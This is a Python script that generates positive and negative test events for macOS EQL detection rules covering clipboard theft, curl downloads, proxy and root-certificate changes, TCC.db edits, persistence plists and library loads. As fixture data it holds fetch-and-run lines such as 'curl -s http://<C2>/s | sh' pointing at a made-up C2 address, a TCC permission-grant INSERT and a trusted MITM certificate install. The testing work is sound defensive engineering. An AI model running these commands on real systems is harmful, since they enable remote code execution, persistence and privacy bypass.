#!/usr/bin/python3
"""Writes emulations/<stem>/{positive,negative}.ndjson and manifest.json for the bundled EQL rules.

Contract
--------
* One function per rule (RULES below); each builds a `positive` case (every detection stated with
  Case.alert / Case.sequence) and a `negative` case (look-alikes and near misses, all Case.quiet).
  Sequences are proven both ways: positives complete them, negatives break them by order, by maxspan
  and by the `by` key (another process.entity_id or host).
* Deterministic (no clock, no randomness): re-running rewrites identical bytes.
* `labels.fixture` on each document says why it is there; no rule reads `labels`. "KNOWN GAP" marks a
  negative that a reader might expect to alert but the upstream query, run as Elasticsearch runs it,
  does not match.
* The expectations are the author's statements; `picket test rules/macos` and the C++ test suite
  (tests/unit/engine/emulation_test.cc) check them against the engine.

Usage: /usr/bin/python3 emulations/build_eql_fixtures.py   (prints per rule: events, detections, alerts)
"""

from __future__ import annotations

import copy
import sys

from eql_fixture_kit import ALICE, BOB, CAROL, LINUX, PY_BREW, PY_ORG_312, SIG_UNSIGNED, Kit, sig_adhoc, sig_dev

# Public-looking addresses made up for the fixtures. The non-standard-port rule ignores the documentation
# ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), so its C2 must be outside them.
C2 = "45.9.148.77"
C2_B = "45.9.148.78"
PY_APP = ("/Library/Frameworks/Python.framework/Versions/3.11/Resources/Python.app/Contents/MacOS/Python",
          sig_dev("org.python.python", "Python Software Foundation", "DJ3H93M7VJ"))
PY_PYENV = ("/Users/alice/.pyenv/versions/3.12.1/bin/python3.12", sig_adhoc("python3.12"))
UNSIGNED_TOOL = "/Users/Shared/.cache/updater"


def on_linux(doc: dict) -> dict:
    """The same document, from a Linux host (host.os.type linux)."""
    doc = copy.deepcopy(doc)
    doc["host"]["os"] = {"family": "ubuntu", "name": "Ubuntu", "type": "linux", "version": "22.04",
                         "kernel": "5.15.0", "platform": "ubuntu", "full": "Ubuntu 22.04"}
    return doc


def as_end(doc: dict) -> dict:
    """The same process's exit event (event.type end), which the start-only rules must ignore."""
    doc["event"].update(type=["end"], action="end")
    return doc


# ==================================================================================================
# Event queries: process starts
# ==================================================================================================

def pbpaste(k: Kit):
    pos, neg = k.case("positive", "pbpaste with no arguments started by Python, Node.js and osascript."), \
        k.case("negative", "pbpaste with arguments, from a shell or a pyenv Python, on Linux, and Python.app.")
    for parent, why in ((k.py(ALICE, ["steal.py"]), "python3 parent"),
                        (k.py(BOB, ["-c", "import pickle"], interp=PY_ORG_312), "python3.12 parent"),
                        (k.proc(CAROL, "/opt/homebrew/bin/node", ["index.js"], sig=sig_adhoc("node")), "node parent"),
                        (k.proc(ALICE, "/usr/bin/osascript", ["-e", "do shell script"]), "osascript parent")):
        k.tick()
        pos.alert(k.exec_(k.proc(parent.host, "/usr/bin/pbpaste", parent=parent)), why)
    k.tick()
    pb = k.proc(ALICE, "/usr/bin/pbpaste", ["-pboard", "find"], parent=k.py(ALICE))
    neg.quiet(k.exec_(pb), "args_count 3, not 1")
    k.tick()
    neg.quiet(k.exec_(k.proc(ALICE, "/usr/bin/pbpaste", parent=k.proc(ALICE, "/bin/zsh", ["-l"]))), "zsh parent")
    k.tick()
    neg.quiet(k.exec_(k.proc(ALICE, "/usr/bin/pbpaste", parent=k.py(ALICE, interp=PY_PYENV))),
              "pyenv python under /Users/*/.pyenv/versions/ is excluded")
    k.tick()
    neg.quiet(k.exec_(k.proc(BOB, "/usr/bin/pbpaste", parent=k.py(BOB, interp=PY_APP))),
              "KNOWN GAP: parent process.name 'Python' (capital P): like is case-sensitive")
    k.tick()
    neg.quiet(on_linux(k.exec_(k.proc(LINUX, "/usr/bin/pbpaste", parent=k.py(LINUX)))), "Linux host")
    k.tick()
    neg.quiet(k.exec_(k.proc(CAROL, "/usr/bin/pbpaste", parent=k.py(CAROL)), action="fork"),
              "event.action fork, not exec")


def curl_from_app(k: Kit):
    pos, neg = k.case("positive", "curl/nscurl downloading from a raw-IP URL to a file, run by a script "
                      "interpreter on behalf of an application under /Applications."), \
        k.case("negative", "Same shape with a domain URL, no output option, an excluded or non-/Applications "
                            "effective parent, a non-script parent, or /Applications in the arguments.")

    def curl(host, args, parent_exe, effective, exe="/usr/bin/curl"):
        parent = k.proc(host, parent_exe, ["-c", "x"])
        p = k.proc(host, exe, args, parent=parent)
        doc = k.exec_(p)
        doc["process"].setdefault("Ext", {})["effective_parent"] = {
            "executable": effective, "name": effective.rsplit("/", 1)[-1]}
        return doc
    url = "http://%s/update.bin" % C2
    k.tick()
    pos.alert(curl(ALICE, ["-fsSL", "-o", "/tmp/u.bin", url], "/bin/sh", "/Applications/Notes Pro.app/Contents/MacOS/Notes Pro"),
              "sh -> curl -o from a raw IP, effective parent an app")
    k.tick()
    pos.alert(curl(BOB, ["--output", "/tmp/u", "https://%s:8443/a/b" % C2_B], PY_BREW[0],
                   "/Applications/Helper.app/Contents/MacOS/Helper"), "python3 parent, https with a port")
    k.tick()
    pos.alert(curl(CAROL, ["-o", "x", url], "/usr/bin/osascript", "/Applications/Slides.app/Contents/MacOS/Slides",
                   exe="/usr/bin/nscurl"), "nscurl from osascript")
    k.tick()
    neg.quiet(curl(ALICE, ["-o", "/tmp/u", "https://updates.example.com/u.bin"], "/bin/sh",
                   "/Applications/Notes Pro.app/Contents/MacOS/Notes Pro"), "domain URL, not a raw IP")
    k.tick()
    neg.quiet(curl(ALICE, ["-fsSL", url], "/bin/sh", "/Applications/Notes Pro.app/Contents/MacOS/Notes Pro"),
              "no output option")
    k.tick()
    neg.quiet(curl(BOB, ["-o", "/tmp/u", url], "/bin/zsh", "/Applications/iTerm.app/Contents/MacOS/iTerm2"),
              "iTerm2 is excluded")
    k.tick()
    neg.quiet(curl(BOB, ["-o", "/tmp/u", url], "/bin/zsh", "/usr/libexec/sshd-session"),
              "effective parent not under /Applications")
    k.tick()
    neg.quiet(curl(CAROL, ["-o", "/tmp/u", url], "/sbin/launchd", "/Applications/Notes Pro.app/Contents/MacOS/Notes Pro"),
              "parent launchd is not a script interpreter")
    k.tick()
    neg.quiet(curl(CAROL, ["-o", "/Applications/Notes Pro.app/x", url], "/bin/sh",
                   "/Applications/Notes Pro.app/Contents/MacOS/Notes Pro"), "an argument under /Applications/")


def child_of(k: Kit, pos_specs, neg_specs):
    """Process-start rules whose logic is parent name + child name/args: specs are
    (host, parent_exe, parent_sig or None, child_exe, child_args, why[, mutate])."""
    for case, specs, alert in ((pos_specs[0], pos_specs[1], True), (neg_specs[0], neg_specs[1], False)):
        for spec in specs:
            host, pexe, psig, cexe, cargs, why = spec[:6]
            k.tick()
            parent = k.py(host, interp=(pexe, psig)) if "python" in pexe.lower() else k.proc(host, pexe, ["x"], sig=psig)
            doc = k.exec_(k.proc(host, cexe, cargs, parent=parent))
            if len(spec) > 6:
                doc = spec[6](doc) or doc
            (case.alert if alert else case.quiet)(doc, why)


def webproxy(k: Kit):
    pos = k.case("positive", "networksetup setting a web, secure web or auto proxy from Python (any case), a shell, "
                 "or an unsigned parent.")
    neg = k.case("negative", "Reading proxy settings, a signed non-script parent, a process end event, Linux.")
    child_of(k, (pos, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/sbin/networksetup", ["-setwebproxy", "Wi-Fi", "127.0.0.1", "8080"], "python3 parent (like~ Python*)"),
        (BOB, "/bin/bash", None, "/usr/sbin/networksetup", ["-setsecurewebproxy", "Wi-Fi", "127.0.0.1", "8443"], "bash parent"),
        (CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "/usr/sbin/networksetup", ["-setautoproxyurl", "Wi-Fi", "http://10.9.9.9/p.pac"], "unsigned parent"),
    ]), (neg, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/sbin/networksetup", ["-getwebproxy", "Wi-Fi"], "read only"),
        (BOB, "/System/Applications/System Settings.app/Contents/MacOS/System Settings", None, "/usr/sbin/networksetup",
         ["-setwebproxy", "Wi-Fi", "proxy.corp.example", "3128"], "signed System Settings parent"),
        (CAROL, "/bin/zsh", None, "/usr/sbin/networksetup", ["-setwebproxy", "Wi-Fi", "127.0.0.1", "8080"], "process end, not start",
         lambda d: d["event"].update(type=["end"], action="end")),
        (ALICE, "/bin/zsh", None, "/usr/sbin/networksetup", ["-setwebproxy", "Wi-Fi", "127.0.0.1", "8080"], "Linux host", on_linux),
    ]))


def root_cert(k: Kit):
    pos = k.case("positive", "security add-trusted-cert from Python, bash and an unsigned parent.")
    neg = k.case("negative", "Other security subcommands, a signed app parent, Linux.")
    child_of(k, (pos, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/security", ["add-trusted-cert", "-d", "-r", "trustRoot", "-k", "/Library/Keychains/System.keychain", "ca.pem"], "python3 parent"),
        (BOB, "/bin/bash", None, "/usr/bin/security", ["add-trusted-cert", "-r", "trustRoot", "mitm.cer"], "bash parent"),
        (CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "/usr/bin/security", ["add-trusted-cert", "x.cer"], "unsigned parent"),
    ]), (neg, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/security", ["find-certificate", "-a"], "find-certificate"),
        (BOB, "/System/Applications/Utilities/Keychain Access.app/Contents/MacOS/Keychain Access", None, "/usr/bin/security",
         ["add-trusted-cert", "corp.cer"], "signed Keychain Access parent"),
        (CAROL, "/bin/bash", None, "/usr/bin/security", ["add-trusted-cert", "x.cer"], "Linux host", on_linux),
        (ALICE, "/bin/bash", None, "/usr/bin/security", ["add-trusted-cert", "x.cer"], "process end, not start", as_end),
    ]))


TCC_USER = "/Users/alice/Library/Application Support/com.apple.TCC/TCC.db"


def tcc(k: Kit):
    pos = k.case("positive", "sqlite3 opening a user or the system TCC.db from Python, a shell or an unsigned parent.")
    neg = k.case("negative", "sqlite3 on another database, a signed non-script parent, Linux.")
    grant = "INSERT INTO access VALUES('kTCCServiceScreenCapture','com.example.rec',0,2,4,1,NULL,NULL,0,'UNUSED',NULL,0,1700000000)"
    child_of(k, (pos, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/sqlite3", [TCC_USER, grant], "python3 parent, user TCC.db"),
        (BOB, "/bin/zsh", None, "/usr/bin/sqlite3", ["/Library/Application Support/com.apple.TCC/TCC.db", "SELECT client FROM access"], "zsh parent, system TCC.db"),
        (CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "/usr/bin/sqlite3", ["/Users/carol/Library/Application Support/com.apple.TCC/TCC.db", grant], "unsigned parent"),
    ]), (neg, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/sqlite3", ["/Users/alice/Library/Messages/chat.db", "SELECT 1"], "another database"),
        (BOB, "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal2", None, "/usr/bin/sqlite3", [TCC_USER, "SELECT 1"],
         "signed parent not named Terminal or a shell"),
        (CAROL, "/bin/zsh", None, "/usr/bin/sqlite3", [TCC_USER, grant], "Linux host", on_linux),
        (ALICE, "/bin/zsh", None, "/usr/bin/sqlite3", [TCC_USER + "-journal", "SELECT 1"], "TCC.db-journal: like matches the whole value"),
        (BOB, "/bin/zsh", None, "/usr/bin/sqlite3", [TCC_USER, grant], "process end, not start", as_end),
    ]))


def browser_child(k: Kit):
    pos = k.case("positive", "Browsers starting Python, curl, osascript, and a shell that downloads.")
    neg = k.case("negative", "A shell without download/discovery words, an unlisted child, a non-browser parent, "
                 "no command line.")

    def drop_cmdline(d):
        del d["process"]["command_line"]
    chrome_helper = "/Applications/Google Chrome.app/Contents/Frameworks/Google Chrome Framework.framework/Helpers/Google Chrome Helper (Renderer).app/Contents/MacOS/Google Chrome Helper (Renderer)"
    child_of(k, (pos, [
        (ALICE, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", None, PY_BREW[0], ["-c", "import os"], "Chrome -> python3"),
        (BOB, chrome_helper, None, "/usr/bin/curl", ["-s", "http://%s/x" % C2], "Chrome helper -> curl"),
        (CAROL, "/System/Library/Frameworks/WebKit.framework/Versions/A/XPCServices/com.apple.WebKit.WebContent.xpc/Contents/MacOS/com.apple.WebKit.WebContent",
         None, "/bin/sh", ["-c", "curl -s http://%s/s | sh" % C2], "Safari WebContent -> sh -c curl"),
        (ALICE, "/Applications/Firefox.app/Contents/MacOS/firefox", None, "/usr/bin/osascript", ["-e", "display dialog"], "firefox -> osascript"),
    ]), (neg, [
        (ALICE, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", None, "/bin/sh", ["-c", "ls ~/Downloads"], "shell without curl/wget/whoami/pwd"),
        (BOB, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", None, "/usr/bin/git", ["status"], "git is not listed"),
        (CAROL, "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", None, PY_BREW[0], ["x.py"], "Finder is not a browser"),
        (ALICE, "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome", None, PY_BREW[0], ["x.py"], "no process.command_line", drop_cmdline),
    ]))


def office_child(k: Kit):
    pos = k.case("positive", "Word, Excel and Outlook starting Python, a shell and curl.")
    neg = k.case("negative", "Office version checks and error reporting (excluded arguments), an unlisted child, "
                 "an excluded management agent as effective parent, a non-Office parent, Linux.")

    def eff(exe):
        def f(d):
            d["process"].setdefault("Ext", {})["effective_parent"] = {"executable": exe}
        return f
    word = "/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word"
    child_of(k, (pos, [
        (ALICE, word, sig_dev("com.microsoft.Word", "Microsoft", "UBF8T346G9"), PY_BREW[0], ["-c", "import urllib.request"], "Word -> python3"),
        (BOB, "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", None, "/bin/sh", ["-c", "curl -s http://%s/p | sh" % C2], "Excel -> sh"),
        (CAROL, "/Applications/Microsoft Outlook.app/Contents/MacOS/Microsoft Outlook", None, "/usr/bin/curl", ["-o", "/tmp/a", "http://%s/a" % C2], "Outlook -> curl"),
    ]), (neg, [
        (ALICE, word, None, "/bin/sh", ["-c", "sysctl hw.model"], "excluded argument 'sysctl hw.model*'"),
        (BOB, word, None, "/usr/bin/defaults", ["read", "x"], "defaults is not listed"),
        (CAROL, word, None, PY_BREW[0], ["x.py"], "effective parent JumpCloud agent is excluded", eff("/opt/jc/bin/jumpcloud-agent")),
        (ALICE, "/Applications/Pages.app/Contents/MacOS/Pages", None, "/bin/sh", ["-c", "id"], "Pages is not Office"),
        (BOB, word, None, "/bin/sh", ["-c", "id"], "Linux host", on_linux),
    ]))


def jamf(k: Kit):
    pos = k.case("positive", "curl to https://jamf.* from Python, osascript and an unsigned parent.")
    neg = k.case("negative", "Other URLs (jamfcloud subdomain, http), a signed shell parent, Linux.")
    child_of(k, (pos, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/curl", ["-s", "-u", "api:x", "https://jamf.corp.example/JSSResource/computers"], "python3 parent"),
        (BOB, "/usr/bin/osascript", None, "/usr/bin/curl", ["https://jamf.corp.example/api/v1/auth/token"], "osascript parent"),
        (CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "/usr/bin/nscurl", ["https://jamf.corp.example/api"], "unsigned parent, nscurl"),
    ]), (neg, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/curl", ["https://acme.jamfcloud.com/api"], "jamfcloud subdomain: not https://jamf.*"),
        (BOB, "/bin/zsh", None, "/usr/bin/curl", ["https://jamf.corp.example/api"], "signed zsh parent is not listed"),
        (CAROL, PY_BREW[0], PY_BREW[1], "/usr/bin/curl", ["http://jamf.corp.example/api"], "http, not https"),
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/curl", ["https://jamf.corp.example/api"], "Linux host", on_linux),
    ]))


def emond(k: Kit):
    pos = k.case("positive", "emond starting Python (also 'Python'), bash, curl and launchctl.")
    neg = k.case("negative", "emond starting an unlisted tool, a listed tool under launchd, Linux.")
    child_of(k, (pos, [
        (ALICE, "/sbin/emond", None, PY_BREW[0], ["/private/var/db/emondClients/.x.py"], "python3"),
        (BOB, "/sbin/emond", None, PY_APP[0], ["-c", "pass"], "Python (capital P): like~ is case-insensitive"),
        (CAROL, "/sbin/emond", None, "/bin/bash", ["-c", "curl x | sh"], "bash"),
        (ALICE, "/sbin/emond", None, "/bin/launchctl", ["load", "x.plist"], "launchctl"),
    ]), (neg, [
        (ALICE, "/sbin/emond", None, "/usr/bin/logger", ["emond rule fired"], "logger is not listed"),
        (BOB, "/sbin/launchd", None, "/bin/bash", ["-c", "x"], "parent launchd"),
        (CAROL, "/sbin/emond", None, "/bin/bash", ["-c", "x"], "Linux host", on_linux),
        (ALICE, "/sbin/emond", None, "/bin/bash", ["-c", "x"], "process end, not start", as_end),
    ]))


def pluginkit(k: Kit):
    pos = k.case("positive", "pluginkit -e use -i <id> from Python, a shell and an unsigned parent.")
    neg = k.case("negative", "pluginkit listing or ignoring, a signed app parent, Linux.")
    child_of(k, (pos, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/pluginkit", ["-e", "use", "-i", "com.example.sync.FinderSync"], "python3 parent"),
        (BOB, "/bin/zsh", None, "/usr/bin/pluginkit", ["-e", "use", "-i", "com.example.ext"], "zsh parent"),
        (CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "/usr/bin/pluginkit", ["-e", "use", "-i", "x.y"], "unsigned parent"),
    ]), (neg, [
        (ALICE, PY_BREW[0], PY_BREW[1], "/usr/bin/pluginkit", ["-m", "-v"], "listing"),
        (BOB, "/bin/zsh", None, "/usr/bin/pluginkit", ["-e", "ignore", "-i", "com.example.ext"], "ignore, not use"),
        (CAROL, "/Applications/Dropbox.app/Contents/MacOS/Dropbox", sig_dev("com.getdropbox.dropbox", "Dropbox", "G7HH3F8CAK"),
         "/usr/bin/pluginkit", ["-e", "use", "-i", "com.getdropbox.dropbox.garcon"], "signed Dropbox parent"),
        (ALICE, "/bin/zsh", None, "/usr/bin/pluginkit", ["-e", "use", "-i", "x"], "Linux host", on_linux),
    ]))


USS = "/System/Library/Frameworks/Foundation.framework/Versions/C/XPCServices/com.apple.foundation.UserScriptService.xpc/Contents/MacOS/com.apple.foundation.UserScriptService"


def folder_action(k: Kit):
    pos = k.case("positive", "The Folder Actions service starting Python, a shell with -c and osascript on a script "
                 "outside the Scripts folders.")
    neg = k.case("negative", "Scripts under ~/Library/Scripts and /Library/Scripts, a shell without -c, another "
                 "parent, Linux.")
    child_of(k, (pos, [
        (ALICE, USS, None, PY_BREW[0], ["/Users/alice/Documents/.watch/run.py"], "python3"),
        (BOB, USS, None, "/bin/sh", ["-c", "curl -s http://%s/x | sh" % C2], "sh -c"),
        (CAROL, USS, None, "/usr/bin/osascript", ["/Users/carol/.local/fa.scpt"], "osascript, hidden folder"),
    ]), (neg, [
        (ALICE, USS, None, "/usr/bin/osascript", ["/Users/alice/Library/Scripts/Folder Action Scripts/resize.scpt"], "user Scripts folder"),
        (BOB, USS, None, PY_BREW[0], ["/Library/Scripts/tidy.py"], "/Library/Scripts"),
        (CAROL, USS, None, "/bin/sh", ["/Users/carol/x.sh"], "sh without -c"),
        (ALICE, "/sbin/launchd", None, PY_BREW[0], ["/Users/alice/x.py"], "parent launchd"),
        (BOB, USS, None, PY_BREW[0], ["/Users/bob/x.py"], "Linux host", on_linux),
    ]))


def authtrampoline(k: Kit):
    pos = k.case("positive", "security_authtrampoline under osascript, Python and Automator.")
    neg = k.case("negative", "Installer and System Settings parents, Linux.")
    tramp = "/usr/libexec/security_authtrampoline"
    child_of(k, (pos, [
        (ALICE, "/usr/bin/osascript", None, tramp, ["/bin/sh", "-c", "cp x /Library/LaunchDaemons/"], "osascript parent"),
        (BOB, PY_BREW[0], PY_BREW[1], tramp, ["/bin/sh"], "python3 parent"),
        (CAROL, "/System/Library/CoreServices/Automator Application Stub.app/com.apple.automator.runner", None, tramp, ["/bin/sh"],
         "Automator runner parent"),
    ]), (neg, [
        (ALICE, "/System/Library/CoreServices/Installer.app/Contents/MacOS/Installer", None, tramp, ["x"], "Installer parent"),
        (BOB, "/System/Applications/System Settings.app/Contents/MacOS/System Settings", None, tramp, ["x"], "System Settings parent"),
        (CAROL, "/usr/bin/osascript", None, tramp, ["x"], "Linux host", on_linux),
        (ALICE, "/usr/bin/osascript", None, tramp, ["x"], "process end, not start", as_end),
        (BOB, "/usr/bin/osascript", None, "/usr/libexec/security_authtrampoline2", ["x"], "another name (== is exact)"),
    ]))


# ==================================================================================================
# Event queries: files and libraries
# ==================================================================================================

def file_rule(k: Kit, pos, neg, specs):
    """specs: (case, host, proc_exe, proc_sig, action, path, why[, mutate])."""
    for spec in specs:
        case, host, exe, sig, action, path, why = spec[:7]
        k.tick()
        p = k.py(host, interp=(exe, sig)) if "python" in exe.lower() else k.proc(host, exe, ["x"], sig=sig)
        doc = k.file(p, action, path)
        if len(spec) > 7:
            doc = spec[7](doc) or doc
        (case.alert if case is pos else case.quiet)(doc, why)


def effective(exe):
    def f(d):
        d["Effective_process"].update(executable=exe, name=exe.rsplit("/", 1)[-1])
    return f


def no_effective(d):
    del d["Effective_process"]


def fda_check(k: Kit):
    pos = k.case("positive", "Python, a shell and an unsigned program opening the Time Machine plist.")
    neg = k.case("negative", "A signed daemon, another path, 'Python' (case-sensitive like), Linux.")
    tm_plist = "/Library/Preferences/com.apple.TimeMachine.plist"
    file_rule(k, pos, neg, [
        (pos, ALICE, PY_BREW[0], PY_BREW[1], "open", tm_plist, "python3"),
        (pos, BOB, "/bin/sh", None, "open", tm_plist, "sh"),
        (pos, CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "open", tm_plist, "unsigned program"),
        (neg, ALICE, "/System/Library/CoreServices/backupd.bundle/Contents/Resources/backupd", None, "open", tm_plist, "backupd, signed"),
        (neg, BOB, PY_BREW[0], PY_BREW[1], "open", "/Library/Preferences/com.apple.loginwindow.plist", "another plist"),
        (neg, CAROL, PY_APP[0], PY_APP[1], "open", tm_plist, "KNOWN GAP: 'Python' (capital P): like is case-sensitive"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "open", tm_plist, "Linux host", on_linux),
    ])


def netconfig(k: Kit):
    pos = k.case("positive", "Python (any case), osascript and a program in /tmp opening the network preferences; "
                 "a document without Effective_process (the Docker exclusion is a must_not, true on a missing field).")
    neg = k.case("negative", "configd, Docker Desktop as effective process, another path, Linux.")
    prefs = "/Library/Preferences/SystemConfiguration/preferences.plist"
    file_rule(k, pos, neg, [
        (pos, ALICE, PY_BREW[0], PY_BREW[1], "open", prefs, "python3"),
        (pos, BOB, PY_APP[0], PY_APP[1], "open", prefs, "Python (capital P): like~ is case-insensitive"),
        (pos, CAROL, "/private/tmp/.x/agent", SIG_UNSIGNED, "open", prefs, "executable under /private/tmp"),
        (pos, ALICE, "/usr/bin/osascript", None, "open", prefs, "osascript, no Effective_process", no_effective),
        (neg, ALICE, "/usr/libexec/configd", None, "open", prefs, "configd"),
        (neg, BOB, PY_BREW[0], PY_BREW[1], "open", prefs, "Docker Desktop is the effective process",
         effective("/Applications/Docker.app/Contents/MacOS/Docker")),
        (neg, CAROL, PY_BREW[0], PY_BREW[1], "open", "/Library/Preferences/com.apple.Bluetooth.plist", "another plist"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "open", prefs, "Linux host", on_linux),
    ])


def dock_plist(k: Kit):
    pos = k.case("positive", "The Dock plist modified by Python, by cfprefsd on behalf of osascript, and by an "
                 "unsigned program.")
    neg = k.case("negative", "cfprefsd on behalf of the Dock, a creation event, another user's other plist, Linux.")
    dock = "/Users/alice/Library/Preferences/com.apple.dock.plist"
    file_rule(k, pos, neg, [
        (pos, ALICE, PY_BREW[0], PY_BREW[1], "modification", dock, "python3"),
        (pos, ALICE, "/usr/sbin/cfprefsd", None, "modification", dock, "cfprefsd for osascript (Effective_process)",
         effective("/usr/bin/osascript")),
        (pos, BOB, UNSIGNED_TOOL, SIG_UNSIGNED, "modification", "/Users/bob/Library/Preferences/com.apple.dock.plist", "unsigned program"),
        (neg, ALICE, "/usr/sbin/cfprefsd", None, "modification", dock, "cfprefsd for the Dock",
         effective("/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock")),
        (neg, BOB, PY_BREW[0], PY_BREW[1], "creation", "/Users/bob/Library/Preferences/com.apple.dock.plist", "creation, not modification"),
        (neg, CAROL, PY_BREW[0], PY_BREW[1], "modification", "/Users/carol/Library/Preferences/com.apple.finder.plist", "another plist"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "modification", dock, "Linux host", on_linux),
    ])


def screensaver(k: Kit):
    pos = k.case("positive", "Per-host and managed screensaver plists modified by Python, curl and an unsigned program.")
    neg = k.case("negative", "cfprefsd, the non-ByHost plist, a creation event, Linux.")
    byhost = "/Users/alice/Library/Preferences/ByHost/com.apple.screensaver.6A1B2C3D-0000-1111-2222-333344445555.plist"
    file_rule(k, pos, neg, [
        (pos, ALICE, PY_BREW[0], PY_BREW[1], "modification", byhost, "python3, ByHost"),
        (pos, BOB, "/usr/bin/curl", None, "modification", "/Library/Managed Preferences/com.apple.screensaver.bob.plist", "curl, managed"),
        (pos, CAROL, UNSIGNED_TOOL, SIG_UNSIGNED, "modification",
         "/Users/carol/Library/Preferences/ByHost/com.apple.screensaver.X.plist", "unsigned program"),
        (neg, ALICE, "/usr/sbin/cfprefsd", None, "modification", byhost, "cfprefsd is excluded (and trusted)"),
        (neg, BOB, PY_BREW[0], PY_BREW[1], "modification", "/Users/bob/Library/Preferences/com.apple.screensaver.plist",
         "name without a host part"),
        (neg, CAROL, PY_BREW[0], PY_BREW[1], "creation", "/Users/carol/Library/Preferences/ByHost/com.apple.screensaver.Y.plist",
         "creation, not modification"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "modification", byhost, "Linux host", on_linux),
    ])


def launch_agent(k: Kit):
    pos = k.case("positive", "LaunchAgent/LaunchDaemon plists written by Python (file creation and a Defend "
                 "launch_daemon event), bash, curl and a program in /tmp.")
    neg = k.case("negative", "Deletion, a non-plist file, ruby (brew services), an executable under /System, "
                 "JumpCloud's plist from bash, a trusted vim, Linux.")
    la = "/Users/alice/Library/LaunchAgents/com.example.agent.plist"
    file_rule(k, pos, neg, [
        (pos, ALICE, PY_BREW[0], PY_BREW[1], "creation", la, "python3 creates a LaunchAgent"),
        (pos, BOB, "/bin/bash", None, "modification", "/Library/LaunchDaemons/com.example.d.plist", "bash modifies a LaunchDaemon"),
        (pos, CAROL, "/usr/bin/curl", None, "creation", "/Users/carol/Library/LaunchAgents/com.x.plist", "curl -o into LaunchAgents"),
        (pos, ALICE, "/private/tmp/.i/installer", SIG_UNSIGNED, "creation", "/Library/LaunchAgents/com.y.plist", "program in /private/tmp"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "deletion", la, "deletion"),
        (neg, BOB, PY_BREW[0], PY_BREW[1], "creation", "/Users/bob/Library/LaunchAgents/notes.txt", "not a .plist"),
        (neg, CAROL, "/opt/homebrew/Cellar/ruby/3.3.0/bin/ruby", sig_adhoc("ruby"), "creation",
         "/Users/carol/Library/LaunchAgents/homebrew.mxcl.redis.plist", "ruby (brew services) is not listed"),
        (neg, ALICE, "/System/Library/PrivateFrameworks/x.framework/bash", None, "creation", "/Library/LaunchAgents/com.apple.z.plist",
         "executable under /System/"),
        (neg, BOB, "/bin/bash", None, "creation", "/Library/LaunchDaemons/com.jumpcloud.darwin-agent.plist", "JumpCloud plist from /bin/bash"),
        (neg, CAROL, "/usr/bin/vim", None, "modification", "/Users/carol/Library/LaunchAgents/com.me.plist", "vim is not listed"),
        (neg, ALICE, PY_BREW[0], PY_BREW[1], "creation", la, "Linux host", on_linux),
    ])
    # A Defend persistence event (file data stream) also matches: event.type creation, extension plist.
    k.tick()
    p = k.py(BOB, ["load.py", "model.pt"])
    doc = k.d.launch_daemon(p, k.t, k.t + 2, "/Users/bob/Library/LaunchAgents/com.apple.mlcache.plist",
                            "com.apple.mlcache", ["/bin/sh", "-c", "curl -fsSL http://%s/b | sh" % C2], keepalive=True)
    pos.alert(doc, "Defend launch_daemon event from python3")


def library_load(k: Kit):
    pos = k.case("positive", "Python loading extension-less or unusual libraries from under /Users.")
    neg = k.case("negative", ".so, .dylib, versioned .dylib, Qt frameworks, pyenv site-packages, a system path, "
                 "node, 'Python' (case-sensitive like), unload, Linux.")
    specs = [
        (pos, ALICE, PY_BREW, "/Users/alice/Library/Caches/com.apple.mlcache/mlcache", "ctypes load of an extension-less Mach-O"),
        (pos, BOB, PY_ORG_312, "/Users/bob/.local/share/x/libhelper.bundle", ".bundle in a hidden folder"),
        (neg, ALICE, PY_BREW, "/Users/alice/src/llm-eval/.venv/lib/python3.12/site-packages/numpy/core/_multiarray_umath.cpython-312-darwin.so", ".so"),
        (neg, BOB, PY_BREW, "/Users/bob/miniconda3/lib/libssl.3.dylib", ".dylib"),
        (neg, CAROL, PY_BREW, "/Users/carol/miniconda3/lib/libz.dylib.1", "versioned .dylib.*"),
        (neg, ALICE, PY_BREW, "/Users/alice/.venv/lib/python3.12/site-packages/PyQt6/Qt6/lib/QtCore.framework/Versions/A/QtCore", "Qt framework"),
        (neg, BOB, PY_PYENV, "/Users/alice/.pyenv/versions/3.12.1/lib/python3.12/site-packages/pkg/helper", "pyenv site-packages"),
        (neg, CAROL, PY_BREW, "/usr/lib/libobjc.A", "not under /Users"),
        (neg, ALICE, PY_APP, "/Users/alice/Library/Caches/x/payload", "KNOWN GAP: process.name 'Python' (capital P): like is case-sensitive"),
    ]
    for case, host, interp, path, why in specs:
        k.tick()
        doc = k.library(k.py(host, interp=interp), path)
        (case.alert if case is pos else case.quiet)(doc, why)
    k.tick()
    node = k.proc(ALICE, "/opt/homebrew/bin/node", ["x.js"], sig=sig_adhoc("node"))
    neg.quiet(k.library(node, "/Users/alice/.cache/x/payload"), "node, not python")
    k.tick()
